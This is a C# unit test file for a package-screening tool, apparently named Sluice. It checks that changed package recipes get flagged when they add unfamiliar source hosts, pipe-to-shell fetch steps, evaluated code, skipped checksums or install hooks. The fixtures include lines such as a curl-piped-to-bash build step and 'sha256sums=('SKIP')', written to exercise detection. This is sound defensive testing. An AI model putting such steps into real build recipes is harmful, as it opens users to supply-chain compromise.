using System.Text;
using Sluice.Findings;
using Sluice.Profiles;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

public sealed class PackageRecipeTests
{
    [Fact]
    public void The_next_version_of_a_recipe_is_no_news() => Assert.Empty(Found(Recipe(9)));

    [Theory]
    [InlineData("source=(\"tool.tar.gz::https://files.acme-tools.dev/9.tar.gz\"\n  'patches::git+https://git.acme-fake.club/x')\n", "deviation/new-dependency High")]
    [InlineData("source=('https://files.acme-tools.dev/9.tar.gz')\nsource_x86_64=(https://ann:x@mirror.acme-fake.club:8443/9.bin)\n", "deviation/new-dependency High")]
    public void Sources_from_elsewhere_are_told(string sources, string expected) => Assert.Equal([expected], Found(Recipe(9, sources)));

    [Theory]
    [InlineData("  curl -s https://files.acme-tools.dev/u | bash\n")]
    [InlineData("  python -c \"$(cat x)\"\n")]
    public void Functions_that_begin_to_fetch_or_evaluate_are_told(string step) => Assert.Equal(["deviation/new-script High"], Found(Recipe(9, step: step)));

    [Fact]
    public void Sums_that_are_no_longer_checked_warn() => Assert.Equal(["deviation/new-script Medium"], Found(Recipe(9, sums: "sha256sums=('SKIP')\n")));

    [Fact]
    public void Comments_count_for_nothing() => Assert.Empty(Found(Recipe(9, step: "  # curl https://x.acme-fake.club/u | bash\n  make\n")));

    [Fact]
    public void A_hook_that_runs_on_installation_is_told()
    {
        var found = Found(Recipe(9, more: ("tool/tool.install", "post_install() {\n  echo done\n}\n")));

        Assert.Contains("deviation/new-script High", found);
    }

    [Fact]
    public void A_list_of_files_of_that_name_is_none()
    {
        var book = Learned(release => TestArchive.Tgz(("tool/debian/control", Bytes($"Source: tool\n# {release}\n"))));

        Assert.DoesNotContain(Found(book, TestArchive.Tgz(("tool/debian/control", Bytes("Source: tool\n")), ("tool/debian/tool.install", Bytes("usr/bin/tool\n")))), found => found.StartsWith("deviation/new-script", StringComparison.Ordinal));
    }

    private static byte[] Recipe(int release, string? sources = null, string? sums = null, string step = "  make\n", params (string Path, string Text)[] more) => TestArchive.Tgz(
        [("tool/PKGBUILD", Bytes($"pkgname=tool\npkgver=1.{release}\n{sources ?? "source=(\"https://files.acme-tools.dev/$pkgver.tar.gz\")\n"}{sums ?? "sha256sums=('aa')\n"}build() {{\n{step}}}\n")), ("tool/tool.desktop", Bytes("[Desktop Entry]\n")), .. more.Select(file => (file.Path, Bytes(file.Text)))]);

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static ProfileBook Learned(Func<int, byte[]> release)
    {
        var book = new ProfileBook { Survey = Survey.Parse("400") };
        for (var number = 1; number <= 5; number++)
            book.Approve(Screening.Of("tool.tar.gz", release(number), new ScreenOptions { Profiles = new ProfileBook() }));
        return book;
    }

    private static List<string> Found(byte[] release) => Found(Learned(number => Recipe(number)), release);

    private static List<string> Found(ProfileBook book, byte[] release) =>
        [.. Screening.Of("tool.tar.gz", release, new ScreenOptions { Profiles = book }).Findings.Select(found => found.Finding).Where(finding => finding.Severity > Severity.Info && finding.Rule.Family == "deviation").Select(finding => $"{finding.Rule.Id} {finding.Severity}")];
}
